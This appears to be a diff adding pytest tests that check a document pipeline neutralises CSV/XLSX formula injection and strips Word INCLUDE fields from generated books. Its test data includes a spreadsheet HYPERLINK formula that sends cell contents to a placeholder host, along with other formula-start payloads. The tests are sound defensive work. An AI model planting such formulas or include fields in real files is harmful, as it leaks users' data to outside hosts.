@@ -1,0 +1,86 @@
+"""Issue 13: hostile input, round two. Each finding is a case that asserts the specific verdict or safe output."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+from conftest import copy_sample
+from pipeline.config import load_config
+from pipeline.programmes.export import to_csv, to_xlsx
+from pipeline.validate import validate_project
+
+FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+SUM(A1:A9)", "-2+3", "@SUM(1,2)"]
+
+
+@pytest.fixture(scope="module")
+def formula_dataset(tmp_path_factory):
+    proj = copy_sample(tmp_path_factory.mktemp("rumus") / "proyek")
+    rows = "\n".join(f"| {i} | Pelayanan | Program Rumus {i} | {f} | 2023 | Rp 1.000.000.000 | APBD | Diskominfo |"
+                     for i, f in enumerate(FORMULAS, start=1))
+    (proj / "chapters" / "bab-04" / "smart-governance.disdukcapil.md").write_text(
+        "---\nopd: disdukcapil\nsection: smart-governance\ntitle: Uji\nversion: 2\n---\n\n# Program\n\n"
+        "Table: Program Uji Rumus\n\n| No | Elemen | Nama Program | Deskripsi | Tahun Pelaksanaan | "
+        "Indikasi Anggaran (Rp) | Sumber Dana | Perangkat Daerah Penanggung Jawab |\n"
+        "|---|---|---|---|---|---|---|---|\n" + rows + "\n", encoding="utf-8")
+    cfg = load_config(proj)
+    return cfg, validate_project(cfg).dataset
+
+
+def test_tab_and_carriage_return_starts_are_inert_too():
+    from pipeline.programmes.export import inert
+
+    assert inert("\t=1+1") == "'\t=1+1" and inert("\r=1") == "'\r=1"
+    assert inert("Program biasa") == "Program biasa" and inert(1500) == 1500
+
+
+def test_csv_cells_that_start_a_formula_are_prefixed(formula_dataset):
+    _, data = formula_dataset
+    rows = {r["nama"]: r for r in csv.DictReader(io.StringIO(to_csv(data)))}
+    for i, formula in enumerate(FORMULAS, start=1):
+        assert rows[f"Program Rumus {i}"]["deskripsi"] == "'" + formula
+        assert rows[f"Program Rumus {i}"]["anggaran"] == "1000000000"  # numbers stay numbers
+
+
+def test_xlsx_text_is_never_a_formula_and_our_sum_still_is(formula_dataset):
+    cfg, data = formula_dataset
+    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(data, cfg.config)))
+    sheet = wb["Smart Governance"]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert all(f in texts for f in FORMULAS)
+    formulas = [c.value for c in cells if c.data_type == "f"]
+    assert len(formulas) == 1 and formulas[0].startswith("=SUM(")  # the total row we write
+    amounts = [c.value for c in cells if c.column == 10 and isinstance(c.value, int)]
+    assert 1_000_000_000 in amounts
+
+
+def test_include_fields_never_reach_the_book(tmp_path):
+    import zipfile
+
+    import docx
+
+    import hostile as H
+    from pipeline.build import BuildOptions, build
+
+    proj = copy_sample(tmp_path / "proyek")
+    target = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
+    target.unlink()
+    (target.with_suffix(".docx")).write_bytes(H.include_fields("pola-pikir"))
+    result = build(load_config(proj), BuildOptions(out_dir=proj / "build", pdf=False))
+    mine = [d for d in result.validation.diagnostics if d.file.endswith("pola-pikir.kominfo.docx")]
+    assert sorted(d.args["field"] for d in mine if d.code == "MP-W614") == ["INCLUDEPICTURE", "INCLUDETEXT",
+                                                                            "INCLUDETEXT"]
+    with zipfile.ZipFile(result.docx) as z:
+        parts = {n: z.read(n) for n in z.namelist() if n.endswith(".xml")}
+    for name, data in parts.items():
+        assert b"INCLUDE" not in data and b"host" not in data, name
+    assert b"HYPERLINK" in parts["word/document.xml"] or b"simalungunkab.go.id" in parts["word/document.xml"]
+    text = "\n".join(p.text for p in docx.Document(str(result.docx)).paragraphs)
+    assert "TEKS-DARI-SHARE" in text and "GAMBAR-LUAR" in text  # the shown result stays, as text
+    assert b"TEKS-CATATAN-SHARE" in parts["word/footnotes.xml"]
+    settings = parts["word/settings.xml"]
+    assert b"updateFields" in settings  # no PDF pass: Word is asked to fill the page numbers, now that fields are safe
